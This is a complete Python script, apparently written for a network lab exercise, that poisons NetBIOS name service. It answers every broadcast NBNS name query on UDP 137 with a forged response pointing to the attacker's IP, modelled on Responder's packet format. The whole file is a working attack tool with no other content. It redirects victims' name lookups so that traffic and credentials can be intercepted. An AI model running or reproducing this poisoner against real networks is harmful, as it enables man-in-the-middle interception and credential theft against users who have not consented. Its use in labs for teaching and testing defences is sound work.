#!/usr/bin/env python3
"""spoof.py - a Responder-style NBNS poisoner for the lab.

It answers every broadcast NetBIOS name query it hears with a positive name
query response carrying its own address, the way Responder's NBT-NS
poisoner does (poisoners/NBTNS.py, packets.py NBT_Ans): the `spoof` scenario
of scenarios.sh runs it on a host of the segment while clients look names up.

Every UDP 137 datagram that is a name query request (response bit clear,
opcode 0, broadcast bit set, one question of type NB) and does not come from
--ip is answered, unicast to the querier's address and port from port 137,
with the layout of Responder's answer:

  * the query's transaction id; flags 0x8500 (response, opcode 0, AA, RD);
    QDCOUNT 0, ANCOUNT 1, NSCOUNT 0, ARCOUNT 0;
  * one answer: the queried name copied as it was encoded (scope included),
    type NB (0x0020), class IN, TTL 165 s, RDLENGTH 6,
    NB_FLAGS 0x0000 (B node, unique) and --ip.

Whatever the name is: a host's name, a workgroup's <1d> or <1b>, a name
nobody owns.  Node status requests, registrations and responses are ignored.
Only the Python standard library is used.  Stop it with SIGTERM or SIGINT;
every answer is logged on stdout.
"""

import argparse
import signal
import socket
import struct
import sys
import time

NS_PORT = 137
TTL = 165  # Responder's NBT_Ans


def parse_query(data):
    """(encoded question name, 'NAME<xx>') of a broadcast NB name query, or None."""
    if len(data) < 12 + 34 + 4:
        return None
    _tid, flags, qd, an, ns, ar = struct.unpack("!6H", data[:12])
    if flags & 0x8000 or (flags >> 11) & 0x0F != 0 or not flags & 0x0010:
        return None
    if qd != 1 or an or ns:
        return None
    # the question name: length-prefixed labels up to a zero byte
    i = 12
    while i < len(data) and data[i]:
        i += 1 + data[i]
    if i + 5 > len(data):
        return None
    qname = data[12 : i + 1]
    qtype, qclass = struct.unpack("!HH", data[i + 1 : i + 5])
    if qtype != 0x0020 or qclass != 1 or qname[0] != 32:
        return None
    enc = qname[1:33]
    raw = bytes(((enc[2 * k] - 0x41) << 4) | (enc[2 * k + 1] - 0x41) for k in range(16))
    shown = raw[:15].decode("ascii", "replace").rstrip()
    if raw[0] == 0x01 or not shown.isprintable():
        shown = repr(raw[:15])[2:-1]
    return qname, "%s<%02x>" % (shown, raw[15])


def answer(query, qname, ip):
    """Responder's NBT_Ans for this query, with address ip."""
    return (
        query[:2]
        + struct.pack("!5H", 0x8500, 0, 1, 0, 0)
        + qname
        + struct.pack("!HHIHH", 0x0020, 1, TTL, 6, 0x0000)
        + socket.inet_aton(ip)
    )


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--ip", required=True, help="own address: bound to, and put in every answer")
    args = ap.parse_args()

    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("0.0.0.0", NS_PORT))  # 0.0.0.0: broadcasts are delivered here too

    count = [0]

    def stop(signum, _frame):
        print("%s spoof: signal %d, %d answers sent" % (stamp(), signum, count[0]), flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    print("%s spoof: answering every broadcast name query with %s" % (stamp(), args.ip), flush=True)
    while True:
        data, (src, sport) = s.recvfrom(2048)
        if src == args.ip:
            continue
        q = parse_query(data)
        if q is None:
            continue
        qname, shown = q
        s.sendto(answer(data, qname, args.ip), (src, sport))
        count[0] += 1
        print("%s answered %s from %s:%d with %s" % (stamp(), shown, src, sport, args.ip), flush=True)


def stamp():
    t = time.time()
    return time.strftime("%Y/%m/%d %H:%M:%S", time.gmtime(t)) + ".%06d" % int((t % 1) * 1e6)


if __name__ == "__main__":
    main()
